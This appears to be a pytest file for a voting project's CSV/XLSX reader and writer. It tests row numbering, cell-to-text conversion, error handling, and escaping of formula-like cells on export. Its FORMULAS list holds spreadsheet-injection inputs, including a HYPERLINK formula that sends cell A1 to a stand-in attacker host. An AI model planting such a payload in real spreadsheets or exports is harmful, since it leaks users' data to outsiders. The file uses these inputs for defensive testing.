"""CSV and XLSX read the same way: header, text cells, row numbers, blank rows skipped."""

import csv
import io
from datetime import date, datetime
from pathlib import Path

import openpyxl
import pytest

from voting.tabular import TableError, csv_bytes, read_rows, write_table


def test_csv_rows_keep_their_line_numbers(tmp_path: Path) -> None:
    path = tmp_path / "t.csv"
    path.write_text("\ufeffid, name\nA, Ánh \n,\nB,Bình\n", "utf-8")
    rows = read_rows(path)
    assert [(row.number, row.cells) for row in rows] == [
        (2, {"id": "A", "name": "Ánh"}),
        (4, {"id": "B", "name": "Bình"}),
    ]


def test_xlsx_cells_become_text(tmp_path: Path) -> None:
    workbook = openpyxl.Workbook()
    sheet = workbook.active
    assert sheet is not None
    sheet.append(["id", "born", "count"])
    sheet.append(["A", datetime(1970, 9, 24), 3.0])
    sheet.append([None, None, None])
    sheet.append(["B", date(1980, 1, 2), 2.5])
    path = tmp_path / "t.xlsx"
    workbook.save(path)
    rows = read_rows(path)
    assert [row.cells for row in rows] == [
        {"id": "A", "born": "1970-09-24", "count": "3"},
        {"id": "B", "born": "1980-01-02", "count": "2.5"},
    ]
    assert [row.number for row in rows] == [2, 4]


@pytest.mark.parametrize(
    ("name", "content", "fragment"),
    [
        ("t.csv", b"", "empty file"),
        ("t.csv", b"id\n\xff\xfe\n", "not UTF-8"),
        ("t.xlsx", b"not a zip", "not a readable XLSX"),
        ("t.csv", b"name\nA\n", "missing column(s) id"),
    ],
)
def test_unreadable_tables_are_refused(
    tmp_path: Path, name: str, content: bytes, fragment: str
) -> None:
    path = tmp_path / name
    path.write_bytes(content)
    with pytest.raises(TableError, match=fragment.replace("(", r"\(").replace(")", r"\)")):
        read_rows(path, required=("id",))


FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")',
    "+84 912 345 678",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
]


def test_exports_never_write_a_formula(tmp_path: Path) -> None:
    """Issue 16, item 9: does formula-like text get a leading ' in CSV and stay a string (never
    a formula) in XLSX — and do both read back as what was written?"""
    rows = [[value, "Bình thường"] for value in FORMULAS]
    data = write_table(["full_name", "note"], rows, "csv")
    written = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    assert [row[0] for row in written[1:]] == ["'" + value for value in FORMULAS]
    assert [row[1] for row in written[1:]] == ["Bình thường"] * len(FORMULAS)
    book = openpyxl.load_workbook(io.BytesIO(write_table(["full_name", "note"], rows, "xlsx")))
    cells = [cell for row in book.active.iter_rows(min_row=2) for cell in row]  # type: ignore[union-attr]
    assert [cell.data_type for cell in cells] == ["s"] * len(cells)
    # A lone carriage return may read back as a line feed (XML line-end handling, parser-dependent).
    read_back = [str(cell.value).replace("\r", "\n") for cell in cells[::2]]
    assert read_back == [v.replace("\r", "\n") for v in FORMULAS]
    for fmt in ("csv", "xlsx"):
        path = tmp_path / f"back.{fmt}"
        path.write_bytes(write_table(["full_name"], [["=1+1"], ["'kept"], ["Ánh"]], fmt))
        assert [row.get("full_name") for row in read_rows(path)] == ["=1+1", "'kept", "Ánh"]


def test_plain_text_and_numbers_are_written_as_they_are() -> None:
    """Is a cell that no spreadsheet reads as a formula left untouched?"""
    data = csv_bytes([["Ánh", 3, "1-2", "a=b", ""]])
    assert data.decode("utf-8-sig") == "Ánh,3,1-2,a=b,\r\n"
